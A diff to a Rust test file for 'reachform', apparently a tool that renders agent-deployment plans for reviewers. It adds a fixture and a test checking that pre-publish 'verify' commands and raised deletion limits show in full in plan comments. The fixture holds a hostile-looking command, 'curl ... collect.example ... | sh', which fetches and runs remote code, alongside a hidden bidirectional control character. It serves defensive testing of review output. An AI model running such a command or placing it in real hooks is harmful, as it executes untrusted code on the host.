@@ -1,13 +1,13 @@
 //! One case for each thing that a reader must be told.
 
 use reachform::diagnostics::{Diagnostic, SourceMap, Span};
-use reachform::model::{Address, Digest, Direction, FieldPath};
+use reachform::model::{Address, Digest, Direction, FieldPath, Verify};
 use reachform::plan::{
-    Action, AgentOutcome, Cause, Event, Held, KeptEdit, LimitBreach, Notice, Orphan, Outcome, Report, Risk, Shown,
-    SlotHolder, SlotTarget, Step, Traffic, Unmanaged,
+    Action, AgentChange, AgentOutcome, Cause, Event, Held, KeptEdit, LimitBreach, LimitKind, Notice, Orphan, Outcome,
+    RaisedLimit, Report, Risk, Shown, SlotHolder, SlotTarget, Step, Traffic, Unmanaged, VerifyChange,
 };
 use reachform::render::json::report_document;
-use reachform::render::markdown::report_comment;
+use reachform::render::markdown::{CommentContext, plan_comment, report_comment};
 use reachform::render::style::{Detail, Styles};
 use reachform::render::text::{TextOptions, event_line, plan_text, report_text};
 use serde_json::{Value, json};
@@ -16,6 +16,54 @@ use super::build::{
     caused, change, editor, field, held_by, key, path, plan, prompt, risky, secret, slot, target, unchanged,
 };
 use super::{check, context, expect};
+
+/// What runs before a version is published: new, another one, and gone; and limits that the change itself raises.
+pub(super) fn programs() -> reachform::plan::Plan {
+    let verify = |command: &[&str], env: &[&str]| Verify {
+        command: command.iter().map(|text| (*text).to_owned()).collect(),
+        env: env.iter().map(|text| (*text).to_owned()).collect(),
+    };
+    let alone =
+        |name: &str, becomes| AgentChange { new_version: false, verify: Some(becomes), ..change(name, Action::Update) };
+    let script = "curl -s \"https://collect.example/$1\" | sh\n# `quoted` \\ and \u{202e}turned";
+    let after = verify(&["sh", "-c", script, "", "a b"], &["CHECK_URL", "HOME"]);
+    let found = [
+        alone("front-desk", VerifyChange::Added { after: after.clone() }),
+        alone("lobby", VerifyChange::Added { after }),
+        alone(
+            "night-line",
+            VerifyChange::Changed { before: None, after: verify(&["./check.sh", "<!-- fast -->"], &[]) },
+        ),
+        alone("recall", VerifyChange::Removed { before: None }),
+    ];
+    let mut plan = plan(found.to_vec());
+    plan.raised = vec![
+        RaisedLimit { limit: LimitKind::Delete, from: None, to: 3 },
+        RaisedLimit { limit: LimitKind::ChangePercent, from: Some(50), to: 100 },
+    ];
+    plan
+}
+
+#[test]
+fn what_runs_before_a_version_is_published_shows_whole_and_first() {
+    check("verify", &programs(), &SourceMap::default());
+    let budget = |max_bytes| CommentContext { max_bytes, ..context() };
+    let mut plan = programs();
+    let Some(VerifyChange::Added { after }) = &mut plan.changes[0].verify else { panic!() };
+    after.command.extend((0..2_000).map(|n| format!("--argument-{n}")));
+    let mut desk = change("other", Action::Update);
+    desk.fields = vec![field("/config/agent/instructions", json!(prompt()), json!(prompt().repeat(20)))];
+    plan.changes.push(desk);
+    // What goes first is what a reviewer misses least, and arguments go last of all.
+    let comment = plan_comment(&plan, &SourceMap::default(), &budget(60_000)).text;
+    for n in 0..2_000 {
+        assert!(comment.contains(&format!("\"--argument-{n}\"")), "{n}");
+    }
+    let summary = TextOptions { detail: Detail::Summary, ..TextOptions::default() };
+    assert!(plan_text(&plan, &summary).contains("--argument-1999"));
+    let short = plan_comment(&plan, &SourceMap::default(), &budget(3_000)).text;
+    assert!(short.contains("**`verify` changes** on 4 agents, and there is no room here for what runs"), "{short}");
+}
 
 /// The plan of an ordinary pull request: a prompt, some numbers, a tool, a deleted agent.
 pub(super) fn everyday() -> reachform::plan::Plan {
